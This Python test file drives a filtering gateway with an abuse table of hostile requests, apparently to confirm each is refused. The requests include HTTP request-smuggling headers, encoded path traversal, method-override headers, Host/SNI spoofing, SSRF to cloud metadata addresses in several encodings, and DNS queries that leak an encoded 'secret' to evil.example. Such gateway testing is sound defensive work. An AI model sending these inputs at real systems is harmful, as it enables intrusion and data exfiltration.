# SPDX-License-Identifier: Apache-2.0
"""Cases of the abuse table: requests that mean one thing to the gateway and another to who is behind it, names that
disagree, paths that climb, addresses that are not public."""
from urllib.parse import unquote

import test_hostile
from abuse_cases import case, reached

# What is refused whole; test_hostile.py says which of its requests may go on without what makes them odd.
def body_reached(seen):
    """A head goes on before its body has come; then of a bad body nothing may."""
    return any(raw.partition(b'\r\n\r\n')[2] for raw in seen.raw.values())


for name, data in test_hostile.REFUSED:
    if name not in test_hostile.HARMLESS and len(data) < 50000:
        case('framing', name.replace('_', '-'), 'HTTP/1.1 that parsers read in two ways', 'r = secure(%r)' % data,
             body_reached if name.startswith('chunk') else reached)


def asked_for(*targets):
    """A request for one of these arrived as such."""
    return lambda seen: any(r.target in targets for r in seen.requests)


POST = "POST /open/x HTTP/1.1\\r\\nHost: api.example.com\\r\\n"
CLOSED = "GET /closed HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"
MORE = [
    ('te-vt', 'Transfer-Encoding: \\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-quoted', 'Transfer-Encoding: \\"chunked\\"\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-identity-chunked', 'Transfer-Encoding: identity, chunked\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-comma-first', 'Transfer-Encoding: ,chunked\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-space-before-colon', 'Transfer-Encoding : chunked\\r\\nContent-Length: 5\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-underscore', 'Transfer_Encoding: chunked\\r\\nContent-Length: 5\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-folded', 'Transfer-Encoding:\\r\\n chunked\\r\\n\\r\\n0\\r\\n\\r\\n'),
    ('te-empty-cl', 'Transfer-Encoding:\\r\\nContent-Length: 5\\r\\n\\r\\nhello'),
    ('cl-spaces', 'Content-Length: 5 5\\r\\n\\r\\nhello'),
    ('cl-underscore', 'Content_Length: 5\\r\\n\\r\\nhello'),
    ('expect-unknown', 'Expect: 200-ok\\r\\nContent-Length: 5\\r\\n\\r\\nhello'),
    ('escape-in-value', 'X: \\x1b[2J\\r\\nContent-Length: 0\\r\\n\\r\\n'),
]
for name, rest in MORE:
    case('framing', name, 'HTTP/1.1 that parsers read in two ways', 'r = secure("%s%s%s")' % (POST, rest, CLOSED))
case('framing', 'pipelined-closed', 'the second of two requests is one that no rule allows',
     's = tls(API)\ns.sendall(request("/open/x") + request("/closed"))\nr = [read_answer(s).status for _ in range(2)]',
     asked_for('/closed'))
case('framing', 'kept-alive-closed', 'the same, after the answer to the first',
     's = tls(API)\ns.sendall(request("/open/x"))\nread_answer(s)\nr = talk(s, request("/closed"))', asked_for('/closed'))
case('framing', 'trace', 'TRACE, whose answer shows every header', 'r = secure(request(method="TRACE"))')
case('framing', 'trace-lower', 'the same in lower case', 'r = secure(request(method="trace"))')
case('framing', 'h2c-upgrade-body', 'another protocol behind Upgrade: what follows is not HTTP/1.1 any more',
     'r = secure(request(headers=[("Connection", "Upgrade"), ("Upgrade", "h2c")]) + PREFACE + settings())',
     lambda seen: b'PRI *' in b''.join(seen.raw.values()) or
     any('h2c' in v for r in seen.requests for v in r.header('upgrade')))
case('framing', 'upgrade-tls', 'Upgrade: TLS/1.0', 'r = secure(request(headers=[("Connection", "Upgrade"), ("Upgrade", "TLS/1.0")]))',
     lambda seen: any(r.header('upgrade') for r in seen.requests))

# Paths that an origin takes for /closed: it decodes once, as servers do, and removes dots.
def leads_to_closed(seen):
    for r in seen.requests:
        parts = []
        for part in unquote(r.path).replace('\\', '/').replace('https://api.example.com', '').split('/'):
            if part == '..':
                parts = parts[:-1]
            elif part not in ('', '.'):
                parts.append(part.split(';')[0])
        if parts[:1] == ['closed']:
            return True
    return False


for name, target in [('dots', '/open/../closed'), ('encoded-dots', '/open/%2e%2e/closed'), ('half-encoded', '/open/.%2e/closed'),
                     ('upper-encoded', '/open/%2E%2E/closed'), ('encoded-slash', '/open/..%2fclosed'),
                     ('backslash', '/open/..\\closed'), ('encoded-backslash', '/open/..%5cclosed'),
                     ('deep', '/open/a/b/../../../closed'), ('dot-dot', '/open/./../closed'),
                     ('double-slash', '/open//../..//closed'), ('leading', '//closed'), ('plain', '/closed'),
                     ('encoded-letters', '/%63%6c%6f%73%65%64'), ('above-root', '/../closed'),
                     ('absolute', 'https://api.example.com/closed'), ('query', '/closed?/open/x')]:
    case('path', name, 'a path that no rule allows, written otherwise: ' + target,
         'r = secure(request(%r))' % target, leads_to_closed)
for name, target in [('nul', '/open/%00'), ('control', '/open/%0d%0aX:%20y'), ('bad-percent', '/open/%zz')]:
    case('path', name, 'a path that cannot be decided on: ' + target, 'r = secure(request(%r))' % target)
for name, method in [('post', 'POST'), ('delete', 'DELETE'), ('lower-case', 'get'), ('longer', 'GETX'), ('unknown', 'FROB')]:
    case('path', 'method-' + name, 'only GET is allowed, and this is ' + method,
         'r = secure(request("/", "read.example.com", %r), "read.example.com")' % method)

# What a server behind believes more than the request line: it is the server of the case that looks at the header.
def overridden(name, value):
    return lambda seen: any(v == value for r in seen.requests for v in r.header(name))


for name, header, value in [('rails', 'X-HTTP-Method-Override', 'DELETE'), ('asp', 'X-HTTP-Method', 'DELETE'),
                            ('express', 'X-Method-Override', 'delete'), ('wsgi', 'X_HTTP_Method_Override', 'DELETE')]:
    case('path', 'override-' + name, 'a header that asks for a method that no rule allows',
         'r = secure(request("/", "read.example.com", headers=[("%s", "%s")]), "read.example.com")' % (header, value),
         overridden(header.lower(), value))
for name, header, value in [('iis', 'X-Original-URL', '/closed'), ('zend', 'X-Rewrite-URL', '/open/../closed?x'),
                            ('absolute', 'X-Original-URL', 'https://api.example.com/closed')]:
    case('path', 'override-' + name, 'a header that asks for a path that no rule allows',
         'r = secure(request("/open/x", headers=[("%s", "%s")]))' % (header, value), overridden(header.lower(), value))

# Names
for name, what, code in [
    ('host-other', 'Host of another allowed host', 'r = secure(request(host=OTHER))'),
    ('host-unlisted', 'Host that no rule allows', 'r = secure(request(host="closed.example.com"))'),
    ('host-port', 'Host with another port', 'r = secure(request(host=API + ":8443"))'),
    ('host-suffix', 'Host that begins as the allowed one', 'r = secure(request(host=API + ".evil.example"))'),
    ('host-nul', 'Host cut by NUL', 'r = secure(request(host=API + "\\0.evil.example"))'),
    ('host-percent', 'Host with an escape in it', 'r = secure(request(host="api%2eexample.com"))'),
    ('host-userinfo', 'Host with a user before it', 'r = secure(request(host=API + "@evil.example"))'),
    ('host-address', 'Host that is an address', 'r = secure(request(host="10.0.0.1"))'),
    ('second-host', 'the second request of a connection names another host',
     's = tls(API)\ns.sendall(request("/open/x"))\nread_answer(s)\nr = talk(s, request("/open/front", OTHER))'),
    ('plain-host', 'Host of another allowed host, in the clear', 'r = plain(request(host=OTHER))'),
    ('absolute-other', 'absolute form for another host', 'r = secure(request("https://other.example.com/open/x"))'),
    ('absolute-both', 'absolute form and Host for another host',
     'r = secure(request("https://other.example.com/open/x", OTHER))'),
    ('sni-other', 'SNI and Host of another allowed host at this one\'s address',
     'r = secure(request(host=OTHER), sni=OTHER)'),
    ('sni-front', 'SNI of another allowed host, Host of this one', 'r = secure(request(), sni=OTHER)'),
    ('sni-unlisted', 'SNI that no rule allows', 'r = secure(request(), sni="closed.example.com")'),
    ('sni-none', 'no SNI', 'r = talk(tls_context().wrap_socket(connect(API)), request())'),
    ('sni-address', 'SNI at an address that no name was given', 'r = secure(request(), "198.18.255.1", sni=API)'),
    ('unlisted', 'a host that no rule allows', 'r = secure(request(host="closed.example.com"), "closed.example.com", sni=API)'),
    ('tls-1.0', 'an old version of TLS',
     'c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\nc.check_hostname, c.verify_mode = False, ssl.CERT_NONE\n'
     'c.set_ciphers("ALL:@SECLEVEL=0")\nname = "old.example.com"\n'
     'c.minimum_version, c.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1\n'
     'r = talk(c.wrap_socket(connect(name), server_hostname=name), request(host=name))'),
    ('connect', 'CONNECT to another host inside TLS',
     'r = secure("CONNECT other.example.com:443 HTTP/1.1\\r\\nHost: other.example.com:443\\r\\n\\r\\n")'),
    ('connect-plain', 'CONNECT in the clear',
     'r = plain("CONNECT closed.example.com:443 HTTP/1.1\\r\\nHost: closed.example.com:443\\r\\n\\r\\n")'),
    ('socks', 'SOCKS5', 'r = plain(b"\\5\\1\\0" + b"\\5\\1\\0\\1\\x7f\\0\\0\\1\\0\\x50")'),
    ('proxy-header', 'a PROXY header before the request',
     'r = plain(b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\\r\\n" + request())'),
    ('prior-knowledge', 'HTTP/2 in the clear', 'r = plain(PREFACE + settings())'),
]:
    wanted = (lambda seen: any('/open/front' == r.target for r in seen.requests)) if name == 'second-host' else None
    case('name', name, what, code, *([wanted] if wanted else []))

# Addresses. connect_to makes each of them lead to a server of the test, so that what gets through is seen.
for name, host in [('metadata', '169.254.169.254'), ('private', '10.0.0.1'), ('loopback', '127.0.0.9'),
                   ('metadata-other', '100.100.100.200'), ('synthetic', '198.18.255.1'), ('metadata-oracle', '192.0.0.192')]:
    for port, way in ((80, 'plain'), (443, 'secure')):
        sni = ', sni=API' if port == 443 else ''
        case('address', '%s-%d' % (name, port), 'an address in place of a name: ' + host,
             'r = %s(request("/latest", %r), %r%s)' % (way, host, host, sni))
for name, host in [('decimal', '2852039166'), ('octal', '0251.0376.0251.0376'), ('hex', '0xa9fea9fe'), ('short', '10.1')]:
    address = '10.0.0.1' if name == 'short' else '169.254.169.254'
    case('address', name, 'an address in another form: ' + host,
         'r = talk(connect(%r, 80), request("/latest", %r))' % (address, host))
case('address', 'named-at-raw', 'the Host of an allowed name at a raw address', 'r = plain(request(), "169.254.169.254")')
case('address', 'quic', 'UDP to the port of HTTPS: QUIC', 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
     's.sendto(b"\\xc0quic", ("127.0.0.1", there["quic:443"]) if OUTSIDE else (API, 443))')

# The resolver: what is not an address of its own making comes back from nowhere, so no server of names was asked.
ASK = '''q = b"\\x12\\x34\\1\\0\\0\\%(n)d\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(x)]) + x.encode() for x in %(name)r.split(".")) + b"\\0"
q += bytes([%(kind)d >> 8, %(kind)d & 255, 0, %(cls)d])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.sendto(q, ("127.0.0.1", there["resolver:53"]) if OUTSIDE else ("100.64.0.1", 53))
r = int.from_bytes(s.recv(4096)[6:8], "big")'''
for name, kind, cls, n, asked in [('txt', 16, 1, 1, 'c2VjcmV0.evil.example'), ('mx', 15, 1, 1, 'c2VjcmV0.evil.example'),
                                  ('ech', 65, 1, 1, 'api.example.com'), ('svcb', 64, 1, 1, 'api.example.com'),
                                  ('any', 255, 1, 1, 'api.example.com'), ('aaaa', 28, 1, 1, 'api.example.com'),
                                  ('ptr', 12, 1, 1, '1.0.0.10.in-addr.arpa'), ('chaos', 16, 3, 1, 'version.bind'),
                                  ('axfr', 252, 1, 1, 'example.com'), ('null', 10, 1, 1, 'c2VjcmV0.evil.example'),
                                  ('nul-byte', 1, 1, 1, 'api\0.evil.example')]:
    case('dns', name, 'a question of kind %d about %s' % (kind, asked),
         ASK % {'n': n, 'kind': kind, 'cls': cls, 'name': asked}, lambda seen: isinstance(seen.result, int) and seen.result > 0)
